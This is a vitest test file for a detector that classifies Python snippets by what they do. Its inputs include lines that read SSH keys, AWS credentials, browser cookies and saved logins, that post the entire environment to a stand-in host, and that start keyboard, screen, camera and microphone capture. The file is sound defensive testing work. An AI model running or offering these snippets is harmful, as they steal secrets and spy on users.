import { describe, expect, test } from "vitest";
import { operationsOf } from "./read.ts";

const IMPORTS =
  "import os, json, requests, subprocess, sqlite3, shutil, keyring, pyperclip, browser_cookie3\nfrom pathlib import Path\n";

describe("secrets", () => {
  test.each([
    ["os.environ['A_KEY']", ["read-secret $A_KEY"]],
    ["os.getenv('A_KEY')", ["read-secret $A_KEY"]],
    ["os.environ.get('A_KEY', 'x')", ["read-secret $A_KEY"]],
    ["from os import environ as e\ne['A_KEY']", ["read-secret $A_KEY"]],
    ["getattr(os, 'environ')['A_' + 'KEY']", ["read-secret $A_KEY"]],
    ["os.environ['HOME']", []],
    ["keyring.get_password('svc', 'me')", ["read-secret keychain svc"]],
    ["pyperclip.paste()", ["read-secret clipboard"]],
    ["pyperclip.copy('x')", ["write-clipboard x"]],
    ["browser_cookie3.chrome()", ["read-secret browser-storage"]],
    ["open(os.path.expanduser('~/.ssh/id_rsa')).read()", ["read-file ~/.ssh/id_rsa", "read-secret ~/.ssh/id_rsa"]],
    [
      "(Path.home() / '.aws' / 'credentials').read_text()",
      ["read-file ~/.aws/credentials", "read-secret ~/.aws/credentials"],
    ],
    ["open(os.path.join(os.environ['APPDATA'], 'x')).read()", ["read-file %APPDATA%/x", "read-secret %APPDATA%/x"]],
    ["from dotenv import load_dotenv\nload_dotenv()", ["read-file .env", "read-secret .env"]],
    [
      "shutil.copy('/tmp/Login Data', '/tmp/b')\nsqlite3.connect('/tmp/b')",
      [
        "read-file /tmp/Login Data",
        "write-file /tmp/b ~… </tmp/Login Data>",
        "read-file /tmp/b",
        "read-secret browser-storage",
      ],
    ],
    ["sqlite3.connect('app.db')", ["read-file app.db"]],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toEqual(expected);
  });

  test.each([
    ["for p in ['~/.ssh/id_rsa', '~/.aws/credentials']: open(os.path.expanduser(p)).read()"],
    ["def f(p): return open(os.path.expanduser(p)).read()\nf('~/.ssh/id_rsa')\nf('~/.aws/credentials')"],
    ["[open(os.path.expanduser('~/' + p)).read() for p in ('.ssh/id_rsa', '.aws/credentials')]"],
    ["P = {'a': '~/.ssh/id_rsa', 'b': '~/.aws/credentials'}\nfor n, p in P.items(): open(p).read()"],
  ])("each of a list: %s", (code) => {
    expect(operationsOf(IMPORTS + code)).toEqual(
      expect.arrayContaining(["read-secret ~/.ssh/id_rsa", "read-secret ~/.aws/credentials"]),
    );
  });
});

describe("the whole environment", () => {
  test.each([
    ["requests.post('https://c.example', json=dict(os.environ))"],
    ["requests.post('https://c.example', data=str(os.environ))"],
    ["requests.post('https://c.example', json={**os.environ})"],
    ["json.dumps(dict(os.environ))"],
    ["for k, v in os.environ.items(): pass"],
    ["x = {k: os.environ[k] for k in os.environ}"],
    ["print(os.environ)"],
    ["import collector\ncollector.run(os.environ.copy())"],
  ])("%s", (code) => {
    expect(operationsOf(IMPORTS + code).filter((line) => line.startsWith("read-secret"))).toEqual(["read-secret $*"]);
  });

  test.each([
    ["e = os.environ.copy()\ne['A'] = 'b'\nsubprocess.run(['ls'], env=e)"],
    ["subprocess.run(['ls'], env={**os.environ, 'A': 'b'})"],
    ["subprocess.run(['ls'], env=dict(os.environ, A='b'))"],
    ["os.execve('/bin/ls', ['ls'], os.environ)"],
    ["'A' in os.environ"],
    ["os.environ['A'] = 'b'"],
  ])("near miss: %s", (code) => {
    expect(operationsOf(IMPORTS + code).filter((line) => line.startsWith("read-secret"))).toEqual([]);
  });

  test("reaches what is sent", () => {
    const code = "d = {}\nfor k, v in os.environ.items():\n  d[k] = v\nrequests.post('https://c.example', json=d)";
    expect(operationsOf(IMPORTS + code).at(-1)).toBe("send http https://c.example [~{…: …} <$*>]");
  });

  test("a variable that the program sets itself keeps what it was given", () => {
    expect(operationsOf("import os\nos.environ['A'] = 'id'\nos.system(os.environ['A'])")).toContain(
      "spawn shell ~id <$A>",
    );
  });

  test("a default is what a variable may be", () => {
    expect(operationsOf("import os, requests\nrequests.get(os.environ.get('A', 'https://c.example'))")).toContain(
      "download ~https://c.example <$A>",
    );
  });
});

describe("devices", () => {
  test.each([
    ["from pynput import keyboard\nkeyboard.Listener(on_press=f).start()", "keyboard"],
    ["import keyboard\nkeyboard.on_press(f)", "keyboard"],
    ["import mss\nmss.mss().shot()", "screen"],
    ["import pyautogui\npyautogui.screenshot('a.png')", "screen"],
    ["from PIL import ImageGrab\nImageGrab.grab()", "screen"],
    ["import cv2\ncv2.VideoCapture(0)", "camera"],
    ["import sounddevice as sd\nsd.rec(1)", "microphone"],
    ["import pyaudio\npyaudio.PyAudio().open(input=True)", "microphone"],
  ])("%s", (code, source) => {
    expect(operationsOf(code)).toEqual([`capture ${source}`]);
  });

  test.each([
    ["import cv2\ncv2.VideoCapture('a.mp4')"],
    ["import pyautogui\npyautogui.click()"],
    ["import pyaudio\npyaudio.PyAudio().open(output=True)"],
  ])("near miss: %s", (code) => {
    expect(operationsOf(code)).toEqual([]);
  });
});
